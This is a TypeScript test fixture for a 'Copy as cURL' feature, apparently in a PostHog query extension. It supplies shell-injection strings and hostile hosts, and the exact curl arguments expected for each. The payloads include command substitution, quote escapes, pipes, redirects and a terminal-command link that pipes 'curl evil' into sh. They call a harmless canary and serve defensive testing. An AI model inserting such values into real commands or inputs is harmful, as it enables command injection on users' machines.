// Hostile inputs for "Copy as cURL", each with the curl arguments a pasted command must give:
// queries, query names and project ids anyone could have written into a file or a workspace's
// settings, values of the two variables, and hosts (usable ones that look unusual, and hostile
// ones that must be refused). Every payload that would run something calls the stub shell's
// canary (test/shellStub.ts) or creates a file.
import type { CurlRequest } from "../src/savedQueries/curl";
import { CANARY } from "./shellStub";

/** One command to build and run, and what curl must receive. */
export interface CurlCase {
    label: string;
    request: CurlRequest;
    /** The environment the command runs in (the two variables). */
    env: { POSTHOG_API_KEY: string; POSTHOG_PROJECT_ID?: string };
    /** The arguments curl must be called with, exactly. */
    argv: string[];
}

/** Strings a shell would act on in every way it can, if one got out of its quotes. */
export const HOSTILE_STRINGS: readonly string[] = [
    `SELECT '$(${CANARY} subst)'`,
    `SELECT \`${CANARY} backtick\``,
    `x'; ${CANARY} semicolon; echo '`,
    `x"; ${CANARY} dquote; echo "`,
    `x'\\''; ${CANARY} escaped-quote #`,
    `x'"'"'; ${CANARY} quote-dance #`,
    `x' | ${CANARY} pipe | '`,
    `x' && ${CANARY} and && '`,
    "$(touch canary-subst)",
    "`touch canary-backtick`",
    "x' >canary-redirect '",
    "x' 2>canary-stderr '",
    `\${IFS}${CANARY}\${IFS}ifs`,
    `!! !-1 !${CANARY} !?x? ^a^b`,
    `a\nb'\n${CANARY} newline\n'`,
    "\\' \\\" \\\\ \\n \\$(x)",
    "* ? [a-z] ~ ~root # { } %s %n $0 $$ $? $HOME ${PATH}",
    "\u2028\u2029\u202e\u200b tab\there cr\rhere \u0000nul",
    "'".repeat(50),
    `${"x".repeat(10_000)}'$(${CANARY} long)'`,
    `$'\\x27'; ${CANARY} ansi-c`,
    "[Undo](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)",
    `EOF\n${CANARY} heredoc\nEOF`,
];

/** Hosts a workspace could set that must never reach a command line. */
export const HOSTILE_HOSTS: readonly string[] = [
    `https://a$(${CANARY}).example.com`,
    `https://a\`${CANARY}\`.example.com`,
    "https://a'b.example.com",
    'https://a"b.example.com',
    `https://a;${CANARY}.example.com`,
    `https://a&${CANARY}.example.com`,
    "https://a$HOME.example.com",
    "https://ex%61mple.com",
    "https://a_b.example.com",
    "https://us.posthog.com?",
    `https://us.posthog.com\n${CANARY}`,
    "[Undo](command:workbench.action.terminal.sendSequence)",
];

const KEY = "phx_test_key";
const US = "https://us.posthog.com";

function body(request: CurlRequest): string {
    const value: Record<string, unknown> = { query: request.query };
    if (request.name) value.name = request.name.slice(0, 128);
    return JSON.stringify(value);
}

function argvFor(request: CurlRequest, origin: string, project: string, key: string): string[] {
    return [
        "-sS",
        "-X",
        "POST",
        `${origin}/api/projects/${project}/query/`,
        "-H",
        `Authorization: Bearer ${key}`,
        "-H",
        "Content-Type: application/json",
        "--data-raw",
        body(request),
    ];
}

/** Every case: hostile queries and names, project ids, variable values, unusual hosts. */
export function curlCases(): CurlCase[] {
    const cases: CurlCase[] = [];
    const add = (label: string, request: CurlRequest, origin: string, env?: CurlCase["env"]) => {
        const vars = env ?? { POSTHOG_API_KEY: KEY };
        const project =
            request.projectId === undefined
                ? (vars.POSTHOG_PROJECT_ID ?? "")
                : encodeURIComponent(request.projectId);
        cases.push({
            label,
            request,
            env: vars,
            argv: argvFor(request, origin, project, vars.POSTHOG_API_KEY),
        });
    };
    HOSTILE_STRINGS.forEach((text, i) => {
        const query = { kind: "HogQLQuery", query: text };
        add(`query and name ${i}`, { host: US, projectId: "42", query, name: text }, US);
        add(`project id ${i}`, { host: US, projectId: text, query }, US);
    });
    for (const value of [`1; ${CANARY} project-var`, `$(${CANARY} project-var)`, "* ?", "a b"]) {
        add(
            `project variable ${JSON.stringify(value)}`,
            { host: US, projectId: undefined, query: { kind: "HogQLQuery", query: "SELECT 1" } },
            US,
            { POSTHOG_API_KEY: `phx_x $(${CANARY} key-var) *`, POSTHOG_PROJECT_ID: value },
        );
    }
    const hosts: [string, string][] = [
        ["https://bücher.example.de:8443/", "https://xn--bcher-kva.example.de:8443"],
        ["http://[::1]:8000", "http://[::1]:8000"],
        ["http://127.0.0.1:8000", "http://127.0.0.1:8000"],
        ["eu.posthog.com", "https://eu.posthog.com"],
    ];
    for (const [host, origin] of hosts) {
        const query = { kind: "TrendsQuery", series: [{ kind: "EventsNode", event: "$pageview" }] };
        add(`host ${host}`, { host, projectId: "7", query, name: "q.json" }, origin);
    }
    return cases;
}
